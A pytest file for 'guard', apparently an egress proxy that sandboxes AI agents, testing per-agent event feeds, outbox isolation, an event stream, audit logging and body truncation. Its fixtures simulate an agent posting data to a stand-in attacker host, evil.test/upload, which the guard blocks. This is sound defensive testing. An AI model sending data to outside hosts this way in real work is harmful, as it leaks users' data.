"""guard.internal: guard answers agents about their own sandbox (events, outbox, world, a
server-sent event stream), over http and https, never forwarding, and audits those calls."""

from __future__ import annotations

import json
import threading

import pytest

from guard.internal_host import RULE_ID
from tests.audit.audit_helpers import RULES, session


@pytest.fixture
def two_agents(guard_proxy):
    g = guard_proxy(RULES, sandbox_from="header", seed=3)
    a, b = session(g, "agent-a"), session(g, "agent-b")
    a.post("https://mail.test/send", json={"to": "boss@corp.test", "subject": "from a",
                                           "text": "hello"})
    a.post("https://evil.test/upload", data=b"rows")
    b.post("https://mail.test/send", json={"to": "ceo@corp.test", "subject": "from b",
                                           "text": "hi"})
    return g, a, b


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_each_sandbox_sees_only_its_own_events(two_agents, scheme):
    g, a, b = two_agents
    events_a = a.get(f"{scheme}://guard.internal/events").json()
    events_b = b.get(f"{scheme}://guard.internal/events").json()
    assert events_a["sandbox"] == "agent-a" and events_b["sandbox"] == "agent-b"
    assert [(e["host"], e["action"]) for e in events_a["events"]] == [
        ("mail.test", "simulate"), ("evil.test", "block")]
    assert [e["host"] for e in events_b["events"]] == ["mail.test"]
    assert {e["sandbox"] for e in events_a["events"]} == {"agent-a"}
    assert g.upstream_attempts == []


def test_the_outbox_and_world_belong_to_the_caller(two_agents):
    _, a, b = two_agents
    outbox_a = a.get("https://guard.internal/outbox").json()["outbox"]
    outbox_b = b.get("http://guard.internal/outbox").json()["outbox"]
    assert [m["subject"] for m in outbox_a] == ["from a"]
    assert [m["subject"] for m in outbox_b] == ["from b"]
    world = a.get("https://guard.internal/world").json()
    assert world["sandbox"] == "agent-a"
    assert [m["to"] for m in world["collections"]["outbox"].values()] == ["boss@corp.test"]


def test_events_since_a_feed_id_are_only_the_newer_ones(two_agents):
    _, a, _ = two_agents
    first = a.get("https://guard.internal/events").json()
    a.get("https://evil.test/again")
    newer = a.get("https://guard.internal/events",
                  params={"since": first["last_id"]}).json()["events"]
    assert [e["url"] for e in newer] == ["https://evil.test/again"]


def test_the_event_stream_delivers_a_new_event_to_a_waiting_client(two_agents):
    g, a, _ = two_agents
    last = a.get("https://guard.internal/events").json()["last_id"]
    got: dict[str, object] = {}

    def listen() -> None:
        r = session(g, "agent-a").get("https://guard.internal/events/stream",
                                   headers={"Last-Event-ID": str(last)},
                                   params={"timeout": "60"})
        got["status"], got["type"], got["body"] = (r.status_code, r.headers["content-type"],
                                                   r.text)

    t = threading.Thread(target=listen)
    t.start()
    # The listener waits inside guard until something happens in its sandbox.
    a.post("https://mail.test/send", json={"to": "x@corp.test", "subject": "live", "text": "t"})
    t.join(90)
    assert got["status"] == 200 and str(got["type"]).startswith("text/event-stream")
    frames = parse_sse(str(got["body"]))
    assert frames[0] == {"retry": "1000"}
    assert [json.loads(f["data"])["url"] for f in frames[1:]] == ["https://mail.test/send"]
    event = json.loads(frames[1]["data"])
    assert frames[1]["id"] == str(event["id"]) and event["id"] > last
    assert frames[1]["event"] == "flow" and event["sandbox"] == "agent-a"


def test_the_event_stream_answers_at_once_when_events_are_waiting(two_agents):
    _, a, _ = two_agents
    r = a.get("http://guard.internal/events/stream", params={"since": "0"})
    frames = parse_sse(r.text)
    assert [json.loads(f["data"])["host"] for f in frames[1:]] == ["mail.test", "evil.test"]


def test_guard_internal_calls_are_audited_and_never_forwarded(two_agents, tmp_path):
    g, a, _ = two_agents
    assert a.post("https://guard.internal/events").status_code == 405
    assert a.get("https://guard.internal/nope").status_code == 404
    g.stop()
    events = [json.loads(x) for x in (tmp_path / "audit.jsonl").read_text().splitlines()]
    internal = [e for e in events if e["host"] == "guard.internal"]
    assert [(e["rule"], e["status"], e["upstream"]) for e in internal] == [
        (RULE_ID, 405, False), (RULE_ID, 404, False)]
    assert g.upstream_attempts == []


def parse_sse(text: str) -> list[dict[str, str]]:
    frames = []
    for block in text.split("\n\n"):
        fields = {}
        for line in block.splitlines():
            if line.startswith(":") or not line:
                continue
            name, _, value = line.partition(": ")
            fields[name] = value
        if fields:
            frames.append(fields)
    return frames


def test_the_feed_keeps_a_kilobyte_of_each_body_and_the_log_keeps_it_all(two_agents, tmp_path):
    g, a, _ = two_agents
    body = "é" + "x" * 5000  # a character of two bytes first: the cut never splits one
    a.post("https://evil.test/big", data=body.encode())
    mine = a.get("https://guard.internal/events").json()["events"][-1]
    cut = mine["request"]["body"]
    g.stop()
    events = [json.loads(x) for x in (tmp_path / "audit.jsonl").read_text().splitlines()]
    logged = next(e for e in events if e["url"] == "https://evil.test/big")["request"]["body"]
    assert logged["text"] == body and "truncated" not in logged
    assert cut["truncated"] is True and cut["size"] == logged["size"] == len(body.encode())
    assert len(cut["text"].encode()) <= 1024 and body.startswith(cut["text"])
    assert "sha256" not in cut  # a plain digest would confirm guesses about the body
